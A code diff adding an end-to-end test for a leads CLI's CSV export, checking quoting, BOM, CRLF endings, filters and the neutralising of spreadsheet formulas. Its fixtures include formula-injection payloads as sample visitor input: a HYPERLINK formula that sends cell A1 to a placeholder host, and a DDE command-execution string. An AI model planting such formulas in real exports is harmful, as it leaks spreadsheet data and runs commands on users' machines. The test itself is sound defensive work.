@@ -1,0 +1,281 @@
+import { execFile } from "node:child_process";
+import { mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { promisify } from "node:util";
+import { test as base, expect } from "@playwright/test";
+import { parse } from "csv-parse/sync";
+import type { Lead } from "~/leads/lead";
+import { importLeadsInto, leadsCli, writeLeadFile } from "../../scripts/lib/lead-fixtures";
+import { startPostgres, type TestPostgres } from "../support/postgres";
+
+// `npm run leads -- --csv`, the built command on both stores: the same leads in a data folder
+// and, imported by the product's own import, in a real PostgreSQL. Each export is parsed back
+// with csv-parse and compared cell by cell with what the store holds.
+
+const test = base.extend<object, { postgres: TestPostgres }>({
+  postgres: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads a fixture's dependencies from this pattern; empty means none
+    async ({}, use) => {
+      const postgres = await startPostgres("pg-e2e-csv");
+      await use(postgres);
+      await postgres.dispose();
+    },
+    { scope: "worker", timeout: 90_000 },
+  ],
+});
+
+const folders: string[] = [];
+test.afterEach(() => {
+  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
+});
+
+function newStoreDir() {
+  const folder = mkdtempSync(join(tmpdir(), "leads-csv-"));
+  folders.push(folder);
+  return join(folder, "data");
+}
+
+const HEADER = [
+  "id",
+  "received",
+  "state",
+  "emailjs",
+  "name",
+  "e-mail",
+  "country code",
+  "phone",
+  "message",
+  "source",
+  "click id",
+];
+
+/**
+ * What the visitor (or a campaign link) wrote, with what the row should say of the lead besides.
+ * The form refuses tabs and carriage returns, but leads stored by older releases or by hand
+ * may hold them: the export does not count on the form.
+ */
+const FIXTURES = [
+  {
+    label: "plain, delivered",
+    receivedAt: "2026-01-05T09:30:00.000Z",
+    state: "sent",
+    emailjs: "sent",
+    // Line breaks alone, nothing else that needs quotes: the break itself must.
+    enquiry: { name: "Meera Iyer", message: "Need a website\nand an app" },
+    sourceLine: "direct",
+    clickId: "",
+    source: { landing: "/" },
+  },
+  {
+    label: "formulas, commas, quotes, last millisecond of the day before --since",
+    receivedAt: "2026-01-10T23:59:59.999Z",
+    state: "sent",
+    emailjs: "sent",
+    enquiry: {
+      name: '=HYPERLINK("http://x.example","Hi")',
+      email: "-asha@example.in",
+      message: '=HYPERLINK("http://x.example/?"&A1,"Open")\n+1, -2 and @SUM(A1:A9); "quoted", too',
+    },
+    sourceLine: "google / cpc / spring-launch",
+    clickId: "gclid=Cj0KCQ-abc_123",
+    source: {
+      landing: "/",
+      parameters: {
+        utm_source: "google",
+        utm_medium: "cpc",
+        utm_campaign: "spring-launch",
+        gclid: "Cj0KCQ-abc_123",
+      },
+    },
+  },
+  {
+    label: "Hindi, emoji, CRLF and LF inside the message",
+    receivedAt: "2026-01-11T00:00:00.000Z",
+    state: "failed",
+    emailjs: "failed",
+    enquiry: {
+      name: "आशा राव 🙏🏽",
+      message: 'नमस्ते, "चेन्नई" वणक்கம்,\r\nsecond line\nthird 👍🏽 👨‍👩‍👧',
+    },
+    sourceLine: "linkedin.com (referral)",
+    clickId: "",
+    source: { referrer: "https://www.linkedin.com" },
+  },
+  {
+    label: "quarantined, leading carriage returns",
+    receivedAt: "2026-01-20T12:00:00.000Z",
+    state: "spam",
+    reason: "honeypot",
+    emailjs: "",
+    enquiry: { name: "\rcarriage", message: "\r\n=1+1" },
+    sourceLine: "direct",
+    clickId: "",
+    source: { landing: "/services" },
+  },
+  {
+    label: "+ and - first, a campaign link that carries a formula",
+    receivedAt: "2026-02-01T08:00:00.000Z",
+    state: "pending",
+    emailjs: "pending",
+    enquiry: { name: "+1 Sales", message: "-2 items" },
+    sourceLine: "'=cmd|'/C calc'!A0 / (not set)",
+    clickId: "",
+    source: { parameters: { utm_source: "=cmd|'/C calc'!A0" } },
+  },
+  {
+    label: "@ and tab first, no EmailJS, from before sources were kept",
+    receivedAt: "2026-02-02T08:00:00.000Z",
+    state: "inbox",
+    emailjs: "",
+    enquiry: { name: "@SUM(A1:A9)", message: "\tleading tab\ra lone CR" },
+    sourceLine: "unknown",
+    clickId: "",
+    source: undefined,
+  },
+] as const;
+
+/** OWASP's rule: a cell the visitor wrote that a spreadsheet would run starts with '. */
+const asText = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
+
+/** Writes the fixtures as the folder store keeps them; the stored leads by label. */
+function writeFixtures(storeDir: string): Map<string, Lead> {
+  const stored = new Map<string, Lead>();
+  for (const fixture of FIXTURES) {
+    const { lead } = writeLeadFile(storeDir, {
+      receivedAt: fixture.receivedAt,
+      state: fixture.state,
+      ...("reason" in fixture ? { reason: fixture.reason } : {}),
+      ...(fixture.source ? { source: fixture.source } : {}),
+      enquiry: {
+        email: "asha@example.in",
+        countryCode: "91",
+        phoneNumber: "09876543210",
+        ...fixture.enquiry,
+      },
+    });
+    stored.set(fixture.label, lead);
+  }
+  return stored;
+}
+
+/** The row the export should hold for a fixture, from the stored lead's own values. */
+function expectedRow(fixture: (typeof FIXTURES)[number], lead: Lead): string[] {
+  const { name, email, countryCode, phoneNumber, message } = lead.enquiry;
+  return [
+    lead.id,
+    lead.receivedAt,
+    lead.state,
+    fixture.emailjs,
+    asText(name),
+    asText(email),
+    countryCode,
+    phoneNumber,
+    asText(message),
+    fixture.sourceLine,
+    fixture.clickId,
+  ];
+}
+
+type Cli = (args: string[]) => Promise<{ stdout: string; stderr: string }>;
+
+/** Exports with `args` and reads the file back: BOM, CRLF records, header; the rows. */
+async function exportRows(cli: Cli, args: string[]): Promise<string[][]> {
+  const { stdout } = await cli(["--csv", ...args]);
+  expect(stdout.startsWith("\uFEFF"), "a UTF-8 byte-order mark first").toBe(true);
+  // Outside quoted cells, every line break ends a record, and is a CRLF.
+  const unquoted = stdout.replace(/"(?:[^"]|"")*"/g, "");
+  expect(unquoted, "records end in CRLF").toMatch(/\r\n$/);
+  expect(unquoted, "no bare LF or CR between records").not.toMatch(/\r(?!\n)|(?<!\r)\n/);
+  // Read as a spreadsheet reads it: any line break outside quotes ends a record, so a cell's
+  // own line break left unquoted would split its row.
+  const [header, ...rows] = parse(stdout, {
+    bom: true,
+    record_delimiter: ["\r\n", "\n", "\r"],
+  }) as string[][];
+  expect(header).toEqual(HEADER);
+  return rows;
+}
+
+/** Every form of the export against one store holding the fixtures. */
+async function checkExports(cli: Cli, stored: Map<string, Lead>) {
+  const rowsOf = (...labels: string[]) =>
+    labels.map((label) => {
+      const fixture = FIXTURES.find((candidate) => candidate.label === label);
+      const lead = stored.get(label);
+      if (!fixture || !lead) throw new Error(`no fixture ${label}`);
+      return expectedRow(fixture, lead);
+    });
+  const [plain, formulas, hindi, spam, plusMinus, atTab] = FIXTURES.map((fixture) => fixture.label) as [
+    string,
+    string,
+    string,
+    string,
+    string,
+    string,
+  ];
+
+  // Every lead but the quarantine, oldest first, cell by cell.
+  expect(await exportRows(cli, [])).toEqual(rowsOf(plain, formulas, hindi, plusMinus, atTab));
+  // From the first millisecond of 11 January in UTC.
+  expect(await exportRows(cli, ["--since", "2026-01-11"])).toEqual(rowsOf(hindi, plusMinus, atTab));
+  expect(await exportRows(cli, ["--state", "sent"])).toEqual(rowsOf(plain, formulas));
+  expect(await exportRows(cli, ["--state", "failed"])).toEqual(rowsOf(hindi));
+  expect(await exportRows(cli, ["--state", "inbox", "--since", "2026-02-02"])).toEqual(rowsOf(atTab));
+  expect(await exportRows(cli, ["--spam"])).toEqual(rowsOf(spam));
+  expect(await exportRows(cli, ["--state", "spam"])).toEqual(rowsOf(spam));
+  expect(await exportRows(cli, ["--spam", "--since", "2026-01-21"])).toEqual([]);
+
+  // A date that is not one: a usage line naming the option, exit 2, nothing exported.
+  for (const date of ["2026-02-30", "31-01-2026", "yesterday"]) {
+    const refused = await cli(["--csv", "--since", date]).then(
+      () => null,
+      (error: { code?: number; stdout?: string; stderr?: string }) => error,
+    );
+    expect(refused?.code, date).toBe(2);
+    expect(refused?.stdout, date).toBe("");
+    expect(refused?.stderr, date).toMatch(
+      /^leads: --since takes a calendar date in UTC, YYYY-MM-DD .*usage: /,
+    );
+  }
+}
+
+test("--csv on the data folder exports every lead cell by cell, formulas made text, with a BOM and CRLF, and each filter selects", async () => {
+  const storeDir = newStoreDir();
+  const stored = writeFixtures(storeDir);
+  await checkExports((args) => leadsCli(storeDir, args), stored);
+});
+
+test("--csv with DATABASE_URL exports the same leads from PostgreSQL, cell by cell, and each filter selects", async ({
+  postgres,
+}) => {
+  const folderDir = newStoreDir();
+  const stored = writeFixtures(folderDir);
+  const url = await postgres.createDatabase();
+  await importLeadsInto(url, folderDir);
+  // The command's own folder is empty: what it exports came from the database.
+  const emptyDir = newStoreDir();
+  await checkExports((args) => leadsCli(emptyDir, args, { DATABASE_URL: url }), stored);
+});
+
+test("--csv refuses a terminal (it would run a visitor's escape sequences) and --spam with another --state, before reading the store", async () => {
+  const storeDir = newStoreDir();
+  writeFixtures(storeDir);
+  // `script` gives the command a terminal as its standard output, as a shell does.
+  const command = `ENQUIRY_STORE_DIR='${storeDir}' '${process.execPath}' '${join(process.cwd(), "build/leads.js")}' --csv`;
+  const onTerminal = await promisify(execFile)("script", ["-qec", command, "/dev/null"]).then(
+    () => null,
+    (error: { code?: number; stdout?: string }) => error,
+  );
+  expect(onTerminal?.code).toBe(2);
+  expect(onTerminal?.stdout).toContain("leads: --csv writes a spreadsheet, not to a terminal");
+  expect(onTerminal?.stdout).not.toContain("HYPERLINK");
+
+  const both = await leadsCli(storeDir, ["--csv", "--spam", "--state", "sent"]).then(
+    () => null,
+    (error: { code?: number; stdout?: string; stderr?: string }) => error,
+  );
+  expect(both?.code).toBe(2);
+  expect(both?.stdout).toBe("");
+  expect(both?.stderr).toMatch(/^leads: --spam exports the quarantine.*not sent/);
+});
